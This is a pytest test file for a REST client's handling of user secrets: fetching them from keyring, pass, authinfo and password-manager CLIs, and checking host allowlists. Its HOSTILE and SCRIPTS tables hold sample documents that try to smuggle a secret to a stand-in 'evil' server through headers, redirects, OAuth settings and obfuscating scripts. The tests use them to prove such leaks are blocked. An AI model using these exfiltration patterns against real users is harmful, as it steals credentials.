"""Secrets from the user's own stores: which store is asked, and which hosts may get them."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
from typing import TYPE_CHECKING

import pytest
from components import needs, needs_engine
from servers import RawServer, by_path, echo, response

from orgrest.editor.analysis import Analysis
from orgrest.editor.diagnostics.report import Report
from orgrest.http.values import Context, Inputs
from orgrest.http.values import secrets as user_secrets
from orgrest.http.values.secrets import UserSecrets
from orgrest.model import OrgrestError

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

SECRET = "hunter2-hunter2"
OTHER = "correct-horse-battery"
TEXT = "Content-Type: text/plain"
JSON = "Content-Type: application/json"


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "docs").mkdir()
    (tmp_path / "bin").mkdir()
    monkeypatch.chdir(tmp_path / "docs")
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.setenv("ORGREST_HISTORY", str(tmp_path / "history"))
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.delenv("ORGREST_SECRETS", raising=False)
    return tmp_path


@pytest.fixture
def listed(home: Path) -> Callable[[str], Path]:
    def write(text: str) -> Path:
        path = home / "config" / "orgrest" / "secrets.toml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return path

    return write


@pytest.fixture
def program(home: Path) -> Callable[[str, str], Path]:
    """Return a function that creates a Python script on the PATH.

    The function returns the path of a file, to which each call of the script adds an `x`.
    """

    def make(name: str, code: str) -> Path:
        path = home / "bin" / name
        path.write_text(
            f"#!{sys.executable} -S\nimport sys\nopen({str(path)!r} + '.calls', 'a').write('x')\n"
            f"{code}\n"
        )
        path.chmod(0o755)
        return path.with_name(f"{name}.calls")

    return make


@pytest.fixture
def good() -> Iterator[RawServer]:
    def elsewhere(connection, request: bytes) -> None:
        target = request.split(b" ")[1].partition(b"?to=")[2]
        status = "307 Temporary Redirect"
        connection.sendall(response(b"", b"Location: " + target, status=status))

    def redirect(connection, request: bytes) -> None:
        (elsewhere if b"?to=" in request.split(b"\r\n")[0] else by_path(answers))(
            connection, request
        )

    answers = {
        "/": response(b'{"token": "from-good"}', JSON),
        "/echo": echo,
        "/token": response(b'{"access_token": "AT-1234", "token_type": "Bearer"}', JSON),
    }
    with RawServer(redirect) as server:
        yield server


@pytest.fixture
def evil() -> Iterator[RawServer]:
    with RawServer(response(b'{"token": "from-evil", "access_token": "x"}', JSON)) as server:
        yield server


@pytest.fixture
def one(listed, program, good) -> Path:
    """Define a secret `one` from the program `pass`, which may be sent only to the server `good`.

    Returns the file that counts the calls of `pass`.
    """
    listed(f'provider = "pass"\n[one]\nhosts = ["{good.url}"]\n')
    return program("pass", f"print({SECRET!r})")


# ---------------------------------------------------------------------------------- who is asked


def ask(entry: str, listed: Callable[[str], Path]) -> str:
    """Return the secret `one` whose table has the lines `entry`."""
    listed(f'[one]\nhosts = ["api.example.com"]\n{entry}\n')
    return UserSecrets.of_user().value("one")


def test_a_secret_of_keyring_is_found(listed, monkeypatch) -> None:
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyrings.alt.file.PlaintextKeyring")
    for service, key in (("orgrest", "one"), ("https://a b", "me@x")):
        command = [sys.executable, "-m", "keyring", "set", service, key]
        subprocess.run(command, input=f"{SECRET}-{key}", text=True, check=True)
    assert ask("", listed) == f"{SECRET}-one"
    assert (
        ask('provider = "keyring"\nkey = "me@x"\nservice = "https://a b"', listed)
        == f"{SECRET}-me@x"
    )
    with pytest.raises(OrgrestError, match="keyring set orgrest gone"):
        ask('key = "gone"', listed)


def test_no_python_beside_a_document_is_run(listed, monkeypatch, home) -> None:
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyrings.alt.file.PlaintextKeyring")
    for name in ("keyring", "json", "jaraco"):
        (home / "docs" / f"{name}.py").write_text("open('ran', 'w'); print('evil')")
    with pytest.raises(OrgrestError):
        ask("", listed)
    assert not (home / "docs" / "ran").exists()


@pytest.fixture
def gnupg(monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """Create a GnuPG key without a passphrase, and yield its user ID.

    The path of its folder is short enough for the sockets of GnuPG's agent.
    """
    folder = tempfile.mkdtemp(prefix="gpg")
    monkeypatch.setenv("GNUPGHOME", folder)
    me = "me@example.org"
    command = ["gpg", "--batch", "--quiet", "--passphrase", "", "--quick-gen-key", me]
    subprocess.run([*command, "default", "default", "never"], check=True, capture_output=True)
    yield me
    subprocess.run(["gpgconf", "--kill", "all"], check=False)
    shutil.rmtree(folder, ignore_errors=True)


@needs("gpg")
def test_a_secret_of_emacs_is_found(listed, gnupg, home) -> None:
    text = (
        "# machine api.example.org login no password comment\n"
        f"machine api.example.org login other port 80 password {OTHER}\n"
        f'machine api.example.org login "a user" port 443 password "{SECRET} with blanks"\n'
        "machine none.example.org login x\n"
    )
    for name in (".authinfo.gpg", "more.gpg"):
        command = ["gpg", "--quiet", "--batch", "-e", "-r", gnupg, "-o", str(home / name)]
        subprocess.run(command, input=text.replace("other", name), text=True, check=True)
    usual = 'provider = "authinfo"\nkey = "api.example.org"\n'
    assert ask(usual, listed) == OTHER
    assert ask(usual + 'login = "a user"\nport = "443"', listed) == f"{SECRET} with blanks"
    assert ask(usual + 'file = "~/more.gpg"\nlogin = "more.gpg"', listed) == OTHER
    for wrong, why in (
        (usual + 'login = "nobody"', "no such entry: machine api.example.org login nobody"),
        ('provider = "authinfo"\nkey = "none.example.org"', "the value is empty"),
        (usual + 'file = "~/none.gpg"', "No such file"),
    ):
        with pytest.raises(OrgrestError, match=why):
            ask(wrong, listed)


@needs("gpg")
@needs("pass")
def test_a_secret_of_pass_is_found(listed, gnupg, home, monkeypatch) -> None:
    monkeypatch.setenv("PASSWORD_STORE_DIR", str(home / "store"))
    subprocess.run(["pass", "init", gnupg], check=True, capture_output=True)
    command = ["pass", "insert", "--multiline", "work/my api"]
    subprocess.run(
        command, input=f"{SECRET}\nlogin: me\n", text=True, check=True, capture_output=True
    )
    assert ask('provider = "pass"\nkey = "work/my api"', listed) == SECRET
    with pytest.raises(OrgrestError, match="run `pass insert work/none`"):
        ask('provider = "pass"\nkey = "work/none"', listed)


@pytest.mark.parametrize(
    ("name", "key", "arguments"),
    [
        # https://developer.1password.com/docs/cli/reference/commands/read
        ("op", "op://a vault/item/$field", ["read", "--no-newline", "op://a vault/item/$field"]),
        # https://bitwarden.com/help/cli/#get
        ("bw", "my `item`", ["--nointeraction", "get", "password", "my `item`"]),
    ],
)
def test_a_password_manager_is_asked_as_its_manual_says(
    listed, program, name, key, arguments
) -> None:
    program(name, f"assert sys.argv[1:] == {arguments!r}\nprint({SECRET!r}, end='')")
    assert ask(f"provider = '{name}'\nkey = '{key}'", listed) == SECRET


def test_a_provider_that_fails_says_why_and_what_to_do(listed, program, monkeypatch) -> None:
    for code, why in (
        (
            "print('locked\\nyou are not logged in', file=sys.stderr); sys.exit(1)",
            "you are not logged in",
        ),
        ("sys.exit(3)", "exit status 3"),
        ("print()", "the value is empty"),
        ("sys.stdout.buffer.write(b'\\xff')", "the output is not UTF-8"),
    ):
        program("bw", code)
        with pytest.raises(
            OrgrestError, match=f"could not get the secret one from bw: {why}.*BW_SESSION"
        ):
            ask("provider = 'bw'", listed)
    monkeypatch.setattr(user_secrets, "PATIENCE", 0.5)
    program("bw", "import time; time.sleep(60)")
    with pytest.raises(OrgrestError, match=r"within 0\.5 seconds"):
        ask("provider = 'bw'", listed)
    with pytest.raises(OrgrestError, match="op is not installed"):
        ask("provider = 'op'\nkey = 'op://a/b/c'", listed)
    with pytest.raises(OrgrestError, match="a reference such as op://"):
        ask("provider = 'op'", listed)


def test_a_program_beside_the_document_is_not_run(listed, program, home, monkeypatch) -> None:
    path = program("bw", "print('evil')")
    shutil.move(path.with_suffix(""), home / "docs" / "bw")
    monkeypatch.setenv("PATH", ".")
    with pytest.raises(OrgrestError, match="bw is not installed"):
        ask("provider = 'bw'", listed)


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("[one", "not valid TOML:"),
        ("one = 1", "must be a table, as in"),
        ("[one]", "list the hosts that it may be sent to"),
        ("[one]\nhosts = []", "list the hosts that it may be sent to"),
        ('[one]\nhosts = "a"', "list the hosts that it may be sent to"),
        (
            '[one]\nhosts = ["a"]\nprovider = "vault"',
            "unknown provider vault; available: keyring, pass, op",
        ),
        ('provider = 1\n[one]\nhosts = ["a"]', "unknown provider 1"),
        ('[one]\nhosts = ["a"]\nkey = "--help"', "does not start with -"),
        ('[-one]\nhosts = ["a"]', "does not start with -"),
        ('[one]\nhosts = ["a"]\nkey = 1', "key must be a string"),
        ('[one]\nhosts = ["a"]\nlogin = "x"', "keyring has no setting login"),
        ('[two]\nhosts = ["a"]', r"the secret one is not listed in .*: add \[one\] with hosts"),
        ("x" * 2_000_000, "is too large: the maximum is 1 MiB"),
    ],
)
def test_a_list_that_is_wrong_says_where_and_how(listed, text, why) -> None:
    path = listed(text)
    with pytest.raises(OrgrestError, match=why) as raised:
        UserSecrets.of_user().value("one")
    assert str(path) in raised.value.reason


def test_without_a_list_there_is_no_secret(home, monkeypatch, listed) -> None:
    with pytest.raises(OrgrestError, match=r"the secret one is not listed in .*secrets\.toml"):
        UserSecrets.of_user().bound("one")
    monkeypatch.setenv("XDG_CONFIG_HOME", "")
    with pytest.raises(OrgrestError, match=r"the secret"):
        UserSecrets.of_user().bound("one")
    monkeypatch.setenv("ORGREST_SECRETS", str(home))
    with pytest.raises(OrgrestError, match="could not read"):
        UserSecrets.of_user().bound("one")
    with pytest.raises(OrgrestError, match="the secret"):
        UserSecrets(None).bound("one")
    with pytest.raises(OrgrestError, match="was not read"):
        Context(Inputs()).secrets.take("one", ask=True)


# ------------------------------------------------------------------------------ what becomes of it


def test_a_secret_is_sent_and_never_shown(orgrest, one, good, home) -> None:
    (home / "docs" / "a.http").write_text(
        f"@t = {{{{$secret one}}}}\nPOST {good.url}/echo\nAuthorization: Bearer {{{{t}}}}\n\n"
        '{"password": "{{$secret   one}}"}\n'
    )
    (home / "docs" / "a.org").write_text(
        '#+begin_src restclient\n:t := secret("one")\n'
        f":u := base64(:t)\nGET {good.url}/echo\nX-A: :t\nX-B: :u\n#+end_src\n"
    )
    shown = orgrest("a.http", "a.org", "--json", "-q")
    assert shown.status == 0
    assert f"Authorization: Bearer {SECRET}".encode() in good.requests[0]
    assert good.requests[0].endswith(f'{{"password": "{SECRET}"}}'.encode())
    assert f"X-A: {SECRET}\r\n".encode() in good.requests[1]
    everywhere = [shown.out, shown.err]
    everywhere += [path.read_text() for path in home.glob("history/*")]
    everywhere.append((home / "docs" / "a.org").read_text())
    assert all("hunter2" not in text for text in everywhere)
    assert "***" in everywhere[0]
    assert "***" in everywhere[-1]
    assert one.read_text() == "x"  # one run asks once


def test_a_provider_is_asked_once_for_all_documents(orgrest, one, good, home) -> None:
    text = "".join(f"### r{n}\nGET {good.url}/echo\nX: {{{{$secret one}}}}\n\n" for n in range(4))
    for number in range(6):
        (home / "docs" / f"{number}.http").write_text(text)
    assert orgrest("test", ".", "-j", "4", "-q").status == 0
    assert len(good.requests) == 24
    assert one.read_text() == "x"


def test_a_provider_that_fails_is_asked_once(orgrest, one, good, program, home) -> None:
    program("pass", "sys.exit('no such entry')")
    one.unlink(missing_ok=True)
    (home / "docs" / "a.http").write_text(f"GET {good.url}/{{{{$secret one}}}}\n###\n" * 3)
    called = orgrest("a.http")
    assert called.err.count("could not get the secret one from pass: no such entry") == 3
    assert "orgrest: a.http:1:" in called.err
    assert one.read_text() == "x"
    assert good.requests == []


def test_nobody_is_asked_where_nothing_is_sent(orgrest, one, good, home) -> None:
    (home / "docs" / "a.http").write_text(f"GET {good.url}/\nX: {{{{$secret one}}}}\n")
    assert "X: <$secret one>" in orgrest("a.http", "--dry-run").out
    (home / "docs" / "a.org").write_text(
        f'#+begin_src restclient\n:t := secret("one")\nGET {good.url}/\nX: :t\n#+end_src\n'
    )
    assert "X: <one>" in orgrest("a.org", "--dry-run").out
    for path in ("a.http", "a.org"):
        text = (home / "docs" / path).read_text()
        kind = path.rpartition(".")[2]
        report = Report(Analysis(text, kind, lambda: Inputs.of_user(home / "docs")))
        assert report.diagnostics == ()
    assert not one.exists()


# --------------------------------------------------------------------------------- where it may go

SECOND = "\n###\nGET EVIL/?q={{x}}\n"
HOSTILE = {
    "in the URL": "GET EVIL/{{$secret one}}",
    "in a header": "GET EVIL/\nUser-Agent: {{$secret one}}",
    "in the body": "POST EVIL/\n\n{{$secret one}}",
    "in a form": "POST EVIL/\nContent-Type: application/x-www-form-urlencoded\n\na={{$secret one}}",
    "as credentials": "GET EVIL/\nAuthorization: Basic me {{$secret one}}",
    "as user info": "GET http://me:{{$secret one}}@EVILHOST/",
    "through definitions": "@a = {{b}}x\n@b = x{{$secret one}}\nGET EVIL/{{a}}",
    "in a WebSocket": "WEBSOCKET ws://EVILHOST/\nX: {{$secret one}}\n\n{{$secret one}}",
    "as the host": "GET http://{{$secret one}}.localhost:EVILPORT/",
    "after a redirect": "POST GOOD/r?to=EVIL/\nUser-Agent: {{$secret one}}\n\n{{$secret one}}",
    "out of a request": (
        "# @name first\nGET GOOD/\nX-A: {{$secret one}}\n\n###\n"
        "GET EVIL/{{first.request.headers.X-A}}"
    ),
    "sent back": (
        "# @name first\nPOST GOOD/echo\n\n{{$secret one}}\n\n###\n"
        "POST EVIL/\n\n{{first.response.body.*}}"
    ),
    "to get a token": (
        "@oauth2_tokenEndpoint = EVIL/token\n@oauth2_clientId = me\n"
        "@oauth2_clientSecret = {{$secret one}}\n"
        "GET GOOD/\nAuthorization: oauth2 client_credentials"
    ),
    "with a token": (
        "@oauth2_tokenEndpoint = GOOD/token\n@oauth2_clientId = me\n"
        "@oauth2_clientSecret = {{$secret one}}\nPOST EVIL/\n"
        "Authorization: oauth2 client_credentials\n\n{{oauth2_clientSecret}}"
    ),
}
SCRIPTS = {
    "as a part": "@s = {{$secret one}}\nGET EVIL/{{s.slice(1, 3)}}",
    "through a function": (
        "{{\n let k = ''\n exports.put = v => { k = v; return 1 }\n"
        " exports.got = () => [...k].reverse().join('')\n}}\n\n@s = {{$secret one}}\n\n###\n"
        "GET GOOD/{{put(s)}}\n\n###\nGET EVIL/{{got()}}\n"
    ),
    "by a loop": "@s = {{$secret one}}\n# @loop for x of s.split('2-')\nGET EVIL/{{x}}",
    "by a list": '@s = {{$secret one}}\n@l = [{"a": "h{{s.slice(1)}}"}]\nGET EVIL/{{$.l..a}}',
    "by a script before": (
        "@s = {{$secret one}}\n< {%\n const s = request.variables.get('s')\n"
        " client.global.set('x', [...s].reverse().join('-'))\n%}\nGET GOOD/" + SECOND
    ),
    "by a script of httpyac": (
        "@s = {{$secret one}}\n{{\n exports.x = s.split('').reverse().join('.')\n}}\nGET GOOD/"
        + SECOND
    ),
    "by a script with the request": (
        "GET GOOD/\nX-A: {{$secret one}}\n\n{{@request\n"
        " exports.x = request.headers['X-A'].split('').reverse().join('.')\n}}\n" + SECOND
    ),
    "by a script that changes the URL": (
        "GET GOOD/\nX-A: {{$secret one}}\n\n{{@request\n request.url = 'EVIL/'\n}}\n"
    ),
    "by a script with the response": (
        "GET GOOD/\nX-A: {{$secret one}}\n\n> {%\n"
        " const s = request.headers.findByName('X-A').tryGetSubstitutedValue()\n"
        " client.global.set('x', [...s].reverse().join('-'))\n%}\n" + SECOND
    ),
    "by an assertion": (
        "GET GOOD/\nX-A: {{$secret one}}\n"
        "?? js globalThis.k = [...JSON.stringify(request)].reverse().join('') == 1\n\n"
        "###\nGET EVIL/{{globalThis.k}}\n"
    ),
}


MASKED = {"by a script with the response", "by an assertion"}
"""Where a script does not see the secret at all."""


def attack(text: str, good: RawServer, evil: RawServer, home: Path) -> None:
    for name, value in (
        ("EVILHOST", evil.host),
        ("EVILPORT", str(evil.port)),
        ("EVIL", evil.url),
        ("GOOD", good.url),
    ):
        text = text.replace(name, value)
    (home / "docs" / "a.http").write_text(text)
    (home / "docs" / "b.http").write_text(f"### b\n# @name b\nGET {evil.url}/{{{{x}}}}\n")


def holds(data: bytes) -> bool:
    """Return whether `data` contains the secret or a transformed form of it."""
    letters = data.replace(b"-", b"").replace(b".", b"").lower()
    return any(part in letters for part in (b"hunter", b"retnuh", b"/un ", b"ahvudgvy"))


def leaked(server: RawServer) -> list[bytes]:
    return [request for request in server.requests if holds(request)]


@pytest.mark.parametrize("way", HOSTILE)
def test_a_document_cannot_take_a_secret_elsewhere(way, orgrest, one, good, evil, home) -> None:
    attack(HOSTILE[way], good, evil, home)
    called = orgrest("a.http")
    assert called.status == 1
    assert evil.requests == []
    assert "the secret one is not sent to " in called.err or "did not follow the" in called.err


@needs_engine
@pytest.mark.parametrize("way", SCRIPTS)
def test_a_script_cannot_take_a_secret_elsewhere(
    way, orgrest, one, listed, good, evil, home
) -> None:
    attack(SCRIPTS[way], good, evil, home)
    called = orgrest("a.http", "--globals", "kept.json")
    assert leaked(evil) == [], called.err
    assert not holds((home / "docs" / "kept.json").read_bytes())
    evil.requests.clear()
    listed(f'provider = "pass"\n[one]\nhosts = ["{good.url}", "{evil.url}"]\n')
    assert orgrest("a.http").status in (0, 1)
    assert bool(leaked(evil)) == (way not in MASKED)  # else the attack would have been none


@needs_engine
def test_a_request_without_anything_of_a_script_goes_anywhere(
    orgrest, one, good, evil, home
) -> None:
    attack(SCRIPTS["by a script before"] + "\n###\nGET EVIL/plain\n", good, evil, home)
    assert orgrest("a.http").status == 1
    assert [request.split()[1] for request in evil.requests] == [b"/plain"]


@needs_engine
def test_what_scripts_kept_of_a_secret_does_not_outlive_the_run(
    orgrest, one, good, evil, home
) -> None:
    attack(SCRIPTS["by a script before"], good, evil, home)
    orgrest("a.http", "--globals", "kept.json")
    attack("GET EVIL/{{x}}", good, evil, home)
    assert "x is not defined" in orgrest("a.http", "--globals", "kept.json").err


def test_a_document_may_talk_to_several_servers(orgrest, program, listed, good, evil, home) -> None:
    program("pass", f"print({SECRET!r} if sys.argv[-1] == 'one' else {OTHER!r})")
    listed(
        f'provider = "pass"\n[one]\nhosts = ["{good.url}"]\n'
        f'[two]\nhosts = ["https://example.com", "{evil.url}"]\n'
    )
    attack(
        "@oauth2_tokenEndpoint = GOOD/token\n@oauth2_clientId = me\n"
        "@oauth2_clientSecret = {{$secret one}}\n"
        "# @name login\nGET GOOD/\nX: {{$secret one}}\n\n###\n"
        "GET EVIL/?t={{login.response.body.$.token}}\nX: {{$secret two}}\n\n###\n"
        "GET EVIL/\nAuthorization: oauth2 client_credentials\n\n###\nGET EVIL/\n",
        good, evil, home,
    )  # fmt: skip
    called = orgrest("a.http")
    assert called.status == 0, called.err
    assert f"X: {OTHER}".encode() in evil.requests[0]
    assert b"?t=from-good" in evil.requests[0]
    assert b"Bearer AT-1234" in evil.requests[1]
    assert leaked(evil) == []


def test_a_redirect_elsewhere_takes_nothing_along(orgrest, one, good, evil, home) -> None:
    attack("GET GOOD/r?to=EVIL/\nAccept: a/b\nX-A: {{$secret one}}\n", good, evil, home)
    assert orgrest("a.http").status == 0
    assert b"Accept: a/b" in good.requests[0]
    assert not any(name in evil.requests[0] for name in (b"a/b", b"X-A", b"hunter"))


@needs_engine
def test_scripts_of_responses_bind_nothing(orgrest, one, good, evil, home) -> None:
    attack(
        "GET GOOD/\nX-A: {{$secret one}}\n\n"
        "> {%\n const sent = request.headers.findByName('X-A').tryGetSubstitutedValue()\n"
        " client.global.set('t', response.body.token + sent)\n%}\n\n"
        "###\nGET EVIL/{{t}}\n",
        good, evil, home,
    )  # fmt: skip
    assert orgrest("a.http").status == 0
    assert evil.requests[0].startswith(b"GET /from-good*** ")


@pytest.mark.parametrize(
    ("host", "url", "goes"),
    [
        ("api.example.com", "https://api.example.com/x", True),
        ("API.example.com", "https://api.EXAMPLE.com:443/x", True),
        ("api.example.com", "wss://api.example.com/x", True),
        ("api.example.com", "http://api.example.com/x", False),
        ("api.example.com", "https://api.example.com:8443/x", False),
        ("api.example.com:8443", "https://api.example.com:8443/x", True),
        ("api.example.com", "https://api.example.com.evil.org/x", False),
        ("api.example.com", "https://evil.org/api.example.com", False),
        ("api.example.com", "https://api.example.com@evil.org/", False),
        ("api.example.com", "https://x.api.example.com/", False),
        ("*.example.com", "https://a.b.example.com/", True),
        ("*.example.com", "https://example.com/", False),
        ("*.example.com", "https://evilexample.com/", False),
        ("http://localhost:3000", "http://localhost:3000/", True),
        ("http://localhost:3000", "ws://localhost:3000/", True),
        ("http://localhost:3000", "https://localhost:3000/", False),
        ("bücher.example", "https://xn--bcher-kva.example/", True),
        ("[::1]:80", "https://[::1]:80/", True),
        ("*", "https://example.com/", False),
        ("", "https://example.com/", False),
    ],
)
def test_a_host_means_that_host_and_no_other(host, url, goes, listed, orgrest, home) -> None:
    listed(f'[one]\nhosts = ["{host}"]\n')
    (home / "docs" / "a.http").write_text(f"# @no-auto\nGET {url}\nX: {{{{$secret one}}}}\n")
    called = orgrest("a.http", "--dry-run")
    assert (called.status == 0) == goes
    assert ("is not sent to" in called.err) != goes
